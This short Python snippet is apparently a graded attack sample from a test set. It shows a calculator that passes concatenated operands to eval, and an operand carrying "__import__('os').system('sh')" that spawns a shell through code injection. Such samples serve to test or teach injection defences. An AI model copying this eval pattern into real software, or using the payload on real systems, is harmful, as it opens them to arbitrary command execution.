# evasion: a calculator's eval given an operand that is code
# grade: hard; does: shell
def calc(ops, nums):
    expr = str(nums[0])
    for op, n in zip(ops, nums[1:]):
        expr += op + str(n)
    return eval(expr)
print(calc(["+"], ["__import__('os').system('sh') or 0", 1]))
